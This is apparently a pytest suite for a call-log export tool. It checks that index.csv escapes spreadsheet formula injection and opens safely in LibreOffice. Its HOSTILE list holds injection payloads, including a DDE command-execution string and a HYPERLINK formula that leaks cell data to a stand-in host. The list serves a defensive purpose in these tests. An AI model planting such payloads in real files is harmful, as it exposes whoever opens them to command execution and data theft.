"""`index.csv` in a spreadsheet: nothing in it is a formula, and no number, id or name becomes another."""

import csv
import io
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from harvester.export.exported import ExportedCall
from harvester.export.index import COLUMNS, Index, number_cell, text_cell
from harvester.export.report import CALLS_A_PAGE
from tests.export.bundled import RUN, SHA256, bundle_of, call_of

NUMBER = re.compile(r"-?\d+(\.\d+)?", re.ASCII)
DANGEROUS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")

HOSTILE = (
    "=1+2",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1987654321",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    " =1+2",
    "\u00a0=1+2",
    '"=1+2',
    "'=1+2",
    "\uff1d1+2",
    'a";=1+2;"',
    "a,=1+2",
    "a| +1+2",
    "a\n=1+2",
    "a\r\n@SUM(1)",
)
UNLIKE_NUMBERS = (
    "12345678901234567890",
    "004930123456",
    "493012345678",
    "1E5",
    "1e400",
    "1-2",
    "1/2",
    "3:00 PM",
    "12 March 2025",
    "MARCH1",
    "Sep. 2",
    "5 %",
    "$5",
    "1,5",
    "0x1F",
    "true",
    "٣",
)
PLAIN = (
    "Sales Assistant",
    "Q4 Outreach Campaign",
    "Praxis Dr. Müller",
    "123",
    "0",
    "12345678901",
    "call-7",
    SHA256,
    "O'Neill",
)


def rows_of(*calls: ExportedCall) -> list[dict[str, str]]:
    """Return the rows of an index of these calls, as Python reads them."""
    return list(csv.DictReader(io.StringIO(csv_of(*calls).decode("utf-8-sig"), newline=""), strict=True))


def csv_of(*calls: ExportedCall) -> bytes:
    """Return an index of these calls."""
    index, bundle = Index(), bundle_of(len(calls))
    rows = b"".join(map(index.call, calls))
    return index.head(bundle) + rows + index.foot(bundle)


def test_a_row_tells_what_is_known_of_a_call() -> None:
    """Fields of the row, paths, sizes and sums of the files, and the page of the report stand in named columns."""
    row = {
        "duration": 245,
        "total_cost": "0.02500000",
        "carrier_cost": 0.02,
        "created_at": "2025-08-04 14:30:00",
        "client_phone_number": "+1987654321",
        "assistant_name": "Sales",
    }
    (read,) = rows_of(call_of(row, number=123))
    assert tuple(read) == COLUMNS
    told = {
        "call_id": "123",
        "created_at": "2025-08-04 14:30:00",
        "client_number": "'+1987654321",
        "duration_seconds": "245",
        "carrier_cost": "0.02",
        "total_cost": "0.02500000",
        "recording": "data/2025/08/04/123.mp3",
        "recording_bytes": "21560",
        "recording_sha256": SHA256,
        "transcript": "data/2025/08/04/123.txt",
        "run": RUN,
        "report": "report.html#call-123",
        "campaign": "",
        "erased": "",
    }
    assert read.items() >= told.items()


def test_the_page_of_the_report_is_named() -> None:
    """A call behind the last that the first page takes stands on the second."""
    rows = rows_of(*(call_of({}, number=n) for n in range(1, CALLS_A_PAGE + 2)))
    assert rows[-2]["report"] == f"report.html#call-{CALLS_A_PAGE}"
    assert rows[-1]["report"] == f"report-0002.html#call-{CALLS_A_PAGE + 1}"


def test_the_form_is_that_of_rfc_4180_for_excel() -> None:
    """A byte order mark, a header, CRLF behind each row and nowhere else; texts quoted, numbers bare."""
    written = csv_of(call_of({"duration": 5, "assistant_name": 'a "b"\r\nc'}))
    assert written.startswith(b'\xef\xbb\xbf"call_id","created_at",')
    assert written.count(b"\r\n") == written.count(b"\n") == written.count(b"\r") == 2
    assert b'"a ""b""\\r\\nc"' in written
    assert b",5," in written


@pytest.mark.parametrize("text", HOSTILE)
def test_what_would_be_a_formula_is_a_text(text: str) -> None:
    """An apostrophe stands before what begins a formula, wherever a reader might take a cell to begin."""
    for delimiter in ",;|\t":
        assert not formulas(f"{text_cell(text)},{text_cell('x')}", delimiter)


@pytest.mark.parametrize("text", [*HOSTILE[:4], *UNLIKE_NUMBERS])
def test_what_would_be_changed_gets_an_apostrophe(text: str) -> None:
    """What a spreadsheet would read as a number or a date is marked as text."""
    assert text_cell(text).startswith("\"'")


@pytest.mark.parametrize("text", PLAIN)
def test_what_comes_back_as_it_was_has_none(text: str) -> None:
    """Names, hashes and short ids are not disfigured."""
    assert text_cell(text) == f'"{text}"'


@given(st.text(st.characters()) | st.text(st.sampled_from("=+-@;,|\t\r\n\"' a1\u00a0\uff1d")))
def test_no_text_begins_a_formula(text: str) -> None:
    """Read with whatever separator, no cell begins with what begins a formula; the row stays one row."""
    line = f"{text_cell('x')},{text_cell(text)},{text_cell('y')}"
    for delimiter in ",;|\t":
        assert not formulas(line, delimiter)
    line.encode()
    assert not re.search(r"[\r\n\t\x00]", line)
    if text:
        ((first, _, last),) = csv.reader([line], strict=True)
        assert (first, last) == ("x", "y")


def formulas(line: str, delimiter: str) -> list[str]:
    """Return the cells of a line that a spreadsheet would take for formulas, splitting at `delimiter`."""
    cells = [*next(csv.reader([line], delimiter=delimiter)), *line.split(delimiter)]
    return [cell for cell in cells if cell.lstrip(' \u00a0"').startswith(DANGEROUS)]


@pytest.mark.parametrize(
    ("number", "cell"),
    [
        (Decimal("0.02000000"), "0.02000000"),
        (Decimal("-0.5"), "-0.5"),
        (Decimal("1E+3"), "1000"),
        (245, "245"),
        (None, ""),
        (Decimal("0.10000000000000000001"), '"\'0.10000000000000000001"'),
        (Decimal("1E+999999"), '"\'1E+999999"'),
    ],
)
def test_numbers_stay_numbers(number: Decimal | int | None, cell: str) -> None:
    """Digits stay as they were sent; what a double cannot hold is a text, and no exponent fills a disk."""
    assert number_cell(number) == cell


def test_a_cell_is_no_longer_than_excel_takes() -> None:
    """Excel would put the rest into a cell of its own, which could begin with anything."""
    assert 32_000 < len(text_cell("a" * 100_000)) < 32_767


soffice = shutil.which("soffice")


@pytest.mark.skipif(soffice is None, reason="LibreOffice is not installed (Debian: libreoffice-calc-nogui)")
def test_libreoffice_reads_texts_as_texts_and_numbers_as_numbers(tmp_path: Path) -> None:
    """Opened as LibreOffice opens a CSV file, no cell is a formula, every text is what was written, every number a number."""
    texts = [text for text in (*HOSTILE, *UNLIKE_NUMBERS, *PLAIN) if "٣" not in text]
    calls = [call_of({"assistant_name": text, "total_cost": "0.02000000", "duration": 245}) for text in texts]
    sheet = opened(csv_of(*calls), tmp_path)
    assistant, cost, duration = map(COLUMNS.index, ("assistant", "total_cost", "duration_seconds"))
    for text, cells in zip(texts, sheet[1:], strict=True):
        ((written,),) = csv.reader([text_cell(text)])
        assert cells[assistant] == ("float" if written.isdigit() else "string", written)
        assert (cells[cost], cells[duration]) == (("float", "0.02"), ("float", "245"))


def opened(written: bytes, folder: Path) -> list[list[tuple[str, str]]]:
    """Return type and text of each cell, as LibreOffice reads a file in UTF-8 with commas. Fails where one is a formula."""
    (folder / "index.csv").write_bytes(written)
    assert soffice is not None
    command = [
        soffice,
        f"-env:UserInstallation={(folder / 'profile').as_uri()}",
        "--headless",
        "--infilter=CSV:44,34,UTF8,1",
    ]
    subprocess.run(
        [*command, "--convert-to", "fods", "index.csv"], cwd=folder, check=True, capture_output=True, timeout=120
    )
    office, table, text = (
        f"{{urn:oasis:names:tc:opendocument:xmlns:{name}:1.0}}" for name in ("office", "table", "text")
    )
    rows = []
    for row in ET.parse(folder / "index.fods").iter(f"{table}table-row"):
        cells = []
        for cell in row.iter(f"{table}table-cell"):
            assert f"{table}formula" not in cell.attrib
            shown = "".join("".join(each.itertext()) for each in cell.iter(f"{text}p"))
            for _ in range(int(cell.get(f"{table}number-columns-repeated", "1"))):
                cells.append((cell.get(f"{office}value-type", ""), shown))
        rows.append(cells)
    return [row for row in rows if len(row) > 1]
